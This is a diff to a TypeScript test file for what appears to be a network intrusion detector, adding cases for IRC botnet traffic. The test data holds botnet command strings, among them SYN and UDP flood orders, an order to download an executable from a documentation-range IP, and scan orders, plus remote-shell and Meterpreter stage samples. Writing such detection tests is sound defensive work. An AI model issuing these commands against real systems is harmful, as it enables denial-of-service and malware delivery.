@@ -43,6 +43,33 @@ describe('first words', () => {
     ['a remote shell', 'bash: no job control in this shell\nbash-4.2$ '],
   ])('of %s', async (name, text) => expect(await said([['client', text]])).toEqual([`Marks of ${name} between 10.0.0.5 and ${SERVER} port 4444`]));
 
+  describe('of a bot on IRC, whatever it is called', () => {
+    const session = (...lines: readonly (readonly ['client' | 'server', string])[]) =>
+      said(
+        [
+          ['client', 'NICK n-821034\r\nUSER virus * 0 :owned\r\n'],
+          ['server', ':irc.x 001 n-821034 :Welcome\r\n'],
+          ['client', 'JOIN #r key\r\n'],
+          ...lines,
+        ],
+        6667,
+      );
+    test.each<[string, 'client' | 'server', string]>([
+      ['an order in the topic', 'server', ':irc.x 332 n-821034 #r :.advscan asn1smb 100 5 0 -r -s\r\n'],
+      ['an order to flood', 'server', ':boss!b@h PRIVMSG #r :.ddos.syn 198.51.100.7 80 600\r\n'],
+      ['an order to fetch a program', 'server', ':boss!b@h PRIVMSG #r :.download http://203.0.113.9/a.exe c:\\a.exe 1\r\n'],
+      ['an order of Kaiten', 'server', ':boss!b@h PRIVMSG #r :!* UDP 198.51.100.7 80 600\r\n'],
+      ['a report', 'client', 'PRIVMSG #r :[SCAN]: Random Port Scan started on 10.0.x.x:445 with a delay of 5 seconds.\r\n'],
+    ])('%s', async (_, side, line) => expect(await session([side, line])).toMatchObject([expect.stringContaining('a bot on IRC') as string]));
+    test.each<[string]>([
+      [':alice!a@h PRIVMSG #games :.hack//SIGN is great, you can download it at https://shop.example\r\n'],
+      [':alice!a@h PRIVMSG #r :!help\r\n'],
+      [':alice!a@h PRIVMSG #r :!seen UDP people\r\n'],
+      [':alice!a@h PRIVMSG #r :scan of the book: page 3\r\n'],
+      [':alice!a@h PRIVMSG #r :[OFFTOPIC]: lunch?\r\n'],
+    ])('silent on %j', async (line) => expect(await session(['server', line])).toEqual([]));
+  });
+
   test('of a stage of Meterpreter', async () => {
     const stage = `\0\x98\x02\0MZARUH\x89\xe5H\x81\xec \0\0\0${'\x90'.repeat(2000)}`;
     expect(await said([['server', stage]])).toHaveLength(1);
